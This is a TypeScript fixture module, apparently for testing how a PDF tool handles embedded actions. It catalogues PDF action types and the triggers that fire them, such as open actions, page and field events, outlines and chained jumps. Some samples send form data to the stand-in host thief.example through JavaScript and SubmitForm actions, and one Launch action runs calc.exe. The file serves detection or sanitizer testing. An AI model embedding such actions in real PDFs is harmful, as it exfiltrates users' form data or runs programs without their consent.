/** Actions of a PDF, and the places where they can be. */
import { buildForm, type FormSource, textField } from '../build-pdf.ts';

export const SCRIPT = "this.submitForm\\('https://thief.example/'\\);";

/** Actions by type (PDF 32000-1 section 12.6.4 and its extensions). */
export const ACTIONS: Record<string, string> = {
  JavaScript: `/S /JavaScript /JS (${SCRIPT})`,
  SubmitForm: '/S /SubmitForm /F << /FS /URL /F (https://thief.example/) >> /Flags 4',
  ImportData: '/S /ImportData /F (data.fdf)',
  Launch: '/S /Launch /F (calc.exe)',
  GoToR: '/S /GoToR /F (other.pdf) /D [0 /Fit]',
  GoToE: '/S /GoToE /T << /R /C /N (inner.pdf) >> /D [0 /Fit]',
  GoToDp: '/S /GoToDp /Dp 4 0 R',
  Thread: '/S /Thread /F (other.pdf) /D 0',
  URI: '/S /URI /URI (https://thief.example/?q=1)',
  Rendition: `/S /Rendition /OP 0 /JS (${SCRIPT})`,
  Movie: '/S /Movie /T (film) /Operation /Play',
  Sound: '/S /Sound /Volume 1',
  GoTo3DView: '/S /GoTo3DView /V /D',
  RichMediaExecute: '/S /RichMediaExecute /CMD << /C (go) >>',
  ResetForm: '/S /ResetForm',
  Hide: '/S /Hide /T (City) /H true',
  Named: '/S /Named /N /Print',
  SetOCGState: '/S /SetOCGState /State [/OFF 4 0 R]',
};

export const action = (type: string, more = '') => `<< /Type /Action ${ACTIONS[type]} ${more} >>`;
export const button = (entries: string) =>
  `<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (Go) /Rect [0 0 612 792] ${entries} >>`;
export const link = (entries: string) =>
  `<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /Border [0 0 0] ${entries} >>`;
export const city = textField('City');

/** Where an action can be (sections 12.6.2, 12.6.3, 12.3.3, 12.4.4.2). */
export const PLACES: Record<string, (source: string) => Uint8Array> = {
  'open action': (source) => form({ catalog: `/OpenAction ${source}` }),
  'document trigger': (source) =>
    form({ catalog: `/AA << /WC ${source} /WS ${source} /DS ${source} /WP ${source} >>` }),
  'page trigger': (source) => form({ page: `/AA << /O ${source} /C ${source} >>` }),
  button: (source) => form({ fields: [city, button(`/A ${source}`)] }),
  'field trigger': (source) =>
    form({
      fields: [textField('City', `/AA << /K ${source} /F ${source} /V ${source} /C ${source} >>`)],
    }),
  'widget trigger': (source) =>
    form({
      fields: [
        textField('City', `/AA << /E ${source} /Fo ${source} /Bl ${source} /PV ${source} >>`),
      ],
    }),
  'outline item': (source) =>
    form({
      catalog: '/Outlines 6 0 R',
      fields: [
        city,
        '<< /First 7 0 R /Last 7 0 R /Count 1 >>',
        `<< /Title (Page) /Parent 6 0 R /A ${source} >>`,
      ],
      listed: [5],
      annotations: [5],
    }),
  'chain of a jump': (source) =>
    form({
      catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /GoTo /D [3 0 R /Fit] /Next ${source} >>] >>`,
    }),
};

export function form(source: Partial<FormSource>): Uint8Array {
  return buildForm({ fields: [city], ...source });
}
